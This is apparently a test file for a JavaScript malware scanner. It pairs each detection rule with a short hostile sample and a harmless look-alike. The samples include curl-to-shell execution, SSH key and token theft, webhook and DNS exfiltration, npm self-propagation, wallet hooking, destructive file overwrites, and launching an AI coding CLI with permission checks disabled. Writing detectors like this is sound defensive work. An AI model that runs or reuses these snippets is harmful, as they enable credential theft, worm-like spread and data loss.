import { describe, expect, it } from 'vitest';
import { analyzeJavaScript } from './analyze-file.js';
import type { RuleId } from '../rules.js';

const rulesOf = (source: string, path = 'index.js') =>
  [...new Set(analyzeJavaScript(path, source).signals.map((s) => s.rule))].sort();

/** Each AST rule with a positive sample and a look-alike that must not trigger it. */
const cases: { rule: RuleId; positive: string; lookAlike: string }[] = [
  {
    rule: 'child-process',
    positive: "const { execSync } = require('node:child_process'); execSync('ls');",
    lookAlike: "const exec = (s) => s; exec('ls'); const cp = { spawn() {} }; cp.spawn('x');",
  },
  {
    rule: 'shell-download-exec',
    positive: "require('child_process').exec(`curl -s ${u} | sh`);",
    lookAlike: "console.log('install with: curl -fsSL https://example.com/install | sh');",
  },
  {
    rule: 'network',
    positive: "import https from 'https'; https.request('https://example.com');",
    lookAlike: "const request = (x) => x; request('https://example.com'); const url = 'https://example.com';",
  },
  {
    rule: 'load-time-network',
    positive: "fetch('https://example.com/ping');",
    lookAlike: "export function ping() { return fetch('https://example.com/ping'); }",
  },
  {
    rule: 'env-harvest',
    positive: 'const data = JSON.stringify(process.env);',
    lookAlike:
      "require('child_process').spawn('node', [], { env: { ...process.env, X: '1' } }); const home = process.env.HOME;",
  },
  {
    rule: 'token-read',
    positive: 'const t = process.env.NPM_TOKEN;',
    lookAlike: 'const t = process.env.NODE_ENV;',
  },
  {
    rule: 'credential-access',
    positive: "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');",
    lookAlike: "require('fs').readFileSync('.editorconfig');",
  },
  {
    rule: 'exfil-endpoint',
    positive: "const hook = 'https://discord.com/api/webhooks/1/abc';",
    lookAlike: "const docs = 'https://discord.com/invite/abc'; const local = 'http://127.0.0.1:8080';",
  },
  {
    rule: 'dns-exfil',
    positive: "const dns = require('dns'); dns.lookup(`${secret}.x.example`, () => {});",
    lookAlike: "const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});",
  },
  {
    rule: 'dynamic-eval',
    positive: 'eval(code);',
    lookAlike: "eval('1 + 1'); const g = new Function('return this')();",
  },
  {
    rule: 'decode-and-execute',
    positive: "eval(Buffer.from(payload, 'base64').toString());",
    lookAlike: "const text = Buffer.from(payload, 'base64').toString(); console.log(text);",
  },
  {
    rule: 'module-compile',
    positive: 'const m = new module.constructor(); m._compile(source, "x.js");',
    lookAlike: 'const m = { compile(s) { return s; } }; m.compile(source);',
  },
  {
    rule: 'obfuscated-code',
    positive: "(function (a, b) { while (--b) { a['push'](a['shift']()); } })(_0x1a2b, 0x1b3);",
    lookAlike: 'const versions = []; while (argv.length) versions.push(argv.shift());',
  },
  {
    rule: 'high-entropy-blob',
    positive: `const blob = '${Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 7919) % 251)).toString('base64')}';`,
    lookAlike: `const text = '${'lorem ipsum dolor sit amet '.repeat(50)}';`,
  },
  {
    rule: 'download-execute',
    positive:
      "const fs = require('fs'); const https = require('https'); https.get('https://203.0.113.9/m', (r) => { fs.writeFileSync('m', r); fs.chmodSync('m', 0o755); });",
    lookAlike:
      "const fs = require('fs'); const https = require('https'); https.get('https://registry.npmjs.org/@esbuild/linux-x64/-/x.tgz', (r) => { fs.writeFileSync('b', r); fs.chmodSync('b', 0o755); });",
  },
  {
    rule: 'self-propagation',
    positive:
      "const fs = require('fs'); const { execSync } = require('child_process'); const t = process.env.NPM_TOKEN; fs.writeFileSync('pkg/package.json', m); execSync('npm publish');",
    lookAlike: "const { execSync } = require('child_process'); execSync('npm publish --dry-run');",
  },
  {
    rule: 'github-exfil',
    positive:
      "const t = process.env.GITHUB_TOKEN; fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: t } });",
    lookAlike: "fetch('https://api.github.com/user/repos').then((r) => r.json());",
  },
  {
    rule: 'ai-cli-abuse',
    positive:
      "require('child_process').spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt]);",
    lookAlike: "const help = 'never pass --dangerously-skip-permissions in CI';",
  },
  {
    rule: 'shell-profile-tamper',
    positive: "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');",
    lookAlike: "const doc = 'add the line to ~/.bashrc yourself';",
  },
  {
    rule: 'wallet-hook',
    positive: 'window.ethereum.request = async (args) => original(args);',
    lookAlike: "const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });",
  },
  {
    rule: 'network-hook',
    positive: 'XMLHttpRequest.prototype.open = function () {};',
    lookAlike: 'const open = XMLHttpRequest.prototype.open; const f = window.fetch;',
  },
  {
    rule: 'destructive-fs',
    positive:
      "const fs = require('fs'); function w(d) { for (const f of fs.readdirSync(d)) fs.writeFileSync(d + f, '!'); } w('/'); w('../../');",
    lookAlike:
      "const fs = require('fs'); for (const f of fs.readdirSync('dist')) fs.writeFileSync('dist/' + f, '');",
  },
  {
    rule: 'geo-targeting',
    positive:
      "fetch('https://ipinfo.io/json').then((r) => r.json()).then((g) => { if (g.country === 'RU') wipe(); });",
    lookAlike: "const zone = 'Europe/Moscow'; const country = 'RU';",
  },
];

describe('behaviour rules (AST)', () => {
  it.each(cases)(
    '$rule: flags the behaviour and leaves the look-alike alone',
    ({ rule, positive, lookAlike }) => {
      expect(rulesOf(positive)).toContain(rule);
      expect(rulesOf(lookAlike)).not.toContain(rule);
    },
  );

  it('reports line and excerpt of what it found', () => {
    const report = analyzeJavaScript('a.js', "const x = 1;\nrequire('child_process').exec(cmd);\n");
    expect(report.signals).toEqual([
      {
        rule: 'child-process',
        line: 2,
        evidence: "require('child_process').exec(cmd);",
        topLevel: true,
        detail: 'child_process.exec',
      },
    ]);
  });

  it('follows decoded data through variables of the same scope only', () => {
    expect(rulesOf("const payload = Buffer.from(x, 'base64').toString(); eval(payload);")).toEqual([
      'decode-and-execute',
    ]);
    const otherScope =
      "function a() { const payload = Buffer.from(x, 'base64'); return payload; } function b(payload) { eval(payload); }";
    expect(rulesOf(otherScope)).toEqual(['dynamic-eval']);
  });

  it('finds strings hidden in base64 constants and split concatenations', () => {
    expect(rulesOf(`const u = '${Buffer.from('https://webhook.site/x').toString('base64')}';`)).toEqual([
      'exfil-endpoint',
    ]);
    expect(rulesOf("const u = 'https://webhook' + '.site/x';")).toEqual(['exfil-endpoint']);
  });

  it('counts crypto-address lists only when they are long', () => {
    const addresses = Array.from(
      { length: 9 },
      (_, i) =>
        `'0x${(i + 1).toString(16).repeat(4)}${'a1b2c3d4e5f60718293a'.slice(0, 20)}${'9f8e7d6c5b4a'.padEnd(16, String(i))}'`,
    );
    expect(rulesOf(`const list = [${addresses.join(',')}];`)).toEqual(['crypto-addresses']);
    expect(rulesOf(`const list = [${addresses.slice(0, 3).join(',')}];`)).toEqual([]);
  });

  it('bounds hostile input instead of crashing', () => {
    const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
    expect(analyzeJavaScript('deep.js', deep).incomplete).toMatch(/deep|parse error/);
    expect(analyzeJavaScript('broken.js', 'function (').incomplete).toMatch(/^parse error/);
    const many = analyzeJavaScript('big.js', 'a;'.repeat(5000), {
      maxParseBytes: 1e6,
      timeMs: 5000,
      maxNodes: 1000,
    });
    expect(many.incomplete).toBe('more than 1000 syntax nodes');
    expect(
      analyzeJavaScript('huge.js', 'x', { maxParseBytes: 0, timeMs: 1, maxNodes: 1 }).incomplete,
    ).toMatch(/over the parse limit/);
  });
});
